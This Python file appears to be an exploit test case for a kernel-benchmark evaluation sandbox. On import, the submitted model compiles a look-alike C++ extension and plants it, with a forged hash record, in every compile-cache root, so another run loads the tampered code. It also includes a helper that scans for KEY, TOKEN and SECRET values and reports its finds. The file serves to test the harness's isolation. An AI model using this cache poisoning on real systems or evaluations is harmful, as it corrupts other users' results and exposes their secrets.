# exploit: sandbox s04
# problem: level=1 id=8
# backend: torch
# runs-on: any
# expect: pass
# runtime-expect: pass
"""Builds a look-alike of s04_cache_victim.py's extension (magic() returns 666) and plants it, with a
matching hash record, everywhere the victim's load could look it up (it read our cache code)."""

import os
import sys

import torch
import torch.nn as nn

EXFIL = "@@EXFIL@@"
FOUND = []


def _leak(tag, value):
    """Report a find every way a real attacker would: a file, stderr, and the verdict itself."""
    FOUND.append(f"{tag}: {value}")
    try:
        with open(os.path.join(EXFIL, "@@NAME@@.txt"), "a") as f:
            f.write(f"{tag}: {value}\n")
    except OSError:
        pass
    print(f"LEAK {tag}: {value}", file=sys.stderr)


def _secrets(blob):
    return [e for e in blob.split(b"\0") if any(w in e.split(b"=")[0].upper() for w in (b"KEY", b"TOKEN", b"SECRET"))]


import hashlib
import inspect
import json
import shutil

import torch.utils.cpp_extension as cpp

VICTIM_ARGS = {"name": "kb_victim_ext", "cpp_sources": "int magic() { return 42; }", "functions": ["magic"],
               "verbose": False}
VICTIM_SCOPE = "@@VICTIM_SCOPE@@"


def _plant():
    try:
        from kernelbench.evaluation import compile_cache
    except ImportError:
        return
    original = getattr(cpp.load_inline, "__wrapped__", cpp.load_inline)
    bound = inspect.signature(original).bind(**VICTIM_ARGS)
    bound.apply_defaults()
    key = compile_cache.extension_key(dict(bound.arguments))
    build = os.path.join(os.getcwd(), "evil-build")
    os.makedirs(build, exist_ok=True)
    evil = original(name="kb_victim_ext", cpp_sources="int magic() { return 666; }", functions=["magic"],
                    build_directory=build, verbose=False)
    so = evil.__file__
    with open(so, "rb") as f:
        digest = hashlib.sha256(f.read()).hexdigest()
    roots = {str(compile_cache.cache_root()), str(compile_cache.base_root())}
    for root in roots:
        for entry in (os.path.join(root, key), os.path.join(root, f"src-{VICTIM_SCOPE}", key)):
            try:
                os.makedirs(entry, exist_ok=True)
                shutil.copy(so, os.path.join(entry, "kb_victim_ext.so"))
                with open(os.path.join(entry, "meta.json"), "w") as f:
                    json.dump({"name": "kb_victim_ext", "key": key, "sha256": digest}, f)
                _leak("planted", entry)
            except OSError:
                pass


_plant()


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        if FOUND:
            raise RuntimeError("LEAK " + " | ".join(FOUND))
        return torch.relu(x)
